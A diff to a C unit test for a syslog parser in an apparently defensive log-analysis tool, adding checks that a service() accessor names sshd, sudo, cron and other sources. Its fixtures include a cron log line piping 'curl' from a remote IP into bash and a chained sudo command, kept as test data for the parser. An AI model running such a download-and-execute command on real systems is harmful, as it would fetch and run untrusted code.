@@ -76,6 +76,7 @@ static void test_auth(void)
     CHECK_INT(feed0(&h, accepted), TY_OK);
     CHECK_STR(h.out.buf, q(&h, accepted_json));
     CHECK_INT(ty_parser_syslog.taxonomy(&h.last), TY_SCAT_NONE);
+    CHECK_STR(ty_parser_syslog.service(&h.last), "sshd");
     CHECK_INT(ty_parser_syslog.fields(&h.last, collect, &f), 0);
     CHECK_STR(f.buf, "host=bastion-1\nprogram=sshd\npid=2201\nmessage=Accepted publickey for "
                      "alice from 203.0.113.77 port 51544 ssh2: ED25519 "
@@ -84,6 +85,7 @@ static void test_auth(void)
     CHECK_INT(feed0(&h, sudo_l), TY_OK);
     CHECK_STR(h.out.buf, q(&h, sudo_json));
     CHECK_INT(ty_parser_syslog.taxonomy(&h.last), TY_SCAT_PROCESS_CREATION);
+    CHECK_STR(ty_parser_syslog.service(&h.last), "sudo");
     ty_buf_reset(&f);
     ty_parser_syslog.fields(&h.last, collect, &f);
     CHECK(strstr(f.buf, "\nTTY=pts/1\nPWD=/home/alice\nUSER=root\nCOMMAND=/bin/bash -c a ; b\n"));
@@ -146,6 +148,7 @@ static void test_auth(void)
     CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "su");
     CHECK_SPAN(ty_event_str(&h.last, TY_F_OUTCOME), "failure");
     CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTOR), "mallory");
+    CHECK_STR(ty_parser_syslog.service(&h.last), "auth");
     CHECK_INT(feed0(&h, "Jan  2 15:05:07 b su: (to root) alice on pts/1"), TY_OK);
     CHECK_SPAN(ty_event_str(&h.last, TY_F_TARGET_USER), "root");
     CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTOR), "alice");
@@ -182,12 +185,14 @@ static void test_auth(void)
                "curl -fsSL http://203.0.113.9/x.sh | bash");
     CHECK_INT(ty_event_int(&h.last, TY_F_PID, 0), 3100);
     CHECK_INT(ty_parser_syslog.taxonomy(&h.last), TY_SCAT_PROCESS_CREATION);
+    CHECK_STR(ty_parser_syslog.service(&h.last), "cron");
 
     /* anything else: a plain message, program as the action */
     CHECK_INT(feed0(&h, "Jan  2 15:05:13 b kernel: [ 1234.5678] Out of memory"), TY_OK);
     CHECK_SPAN(ty_event_str(&h.last, TY_F_CATEGORY), "syslog");
     CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "kernel");
     CHECK_SPAN(ty_event_str(&h.last, TY_F_MESSAGE), "[ 1234.5678] Out of memory");
+    CHECK_STR(ty_parser_syslog.service(&h.last), "syslog");
     CHECK_INT(feed0(&h, "Jan  2 15:05:14 b last message repeated 3 times"), TY_OK);
     CHECK(!ty_event_has(&h.last, TY_F_PROVIDER));
     CHECK_SPAN(ty_event_str(&h.last, TY_F_MESSAGE), "last message repeated 3 times");
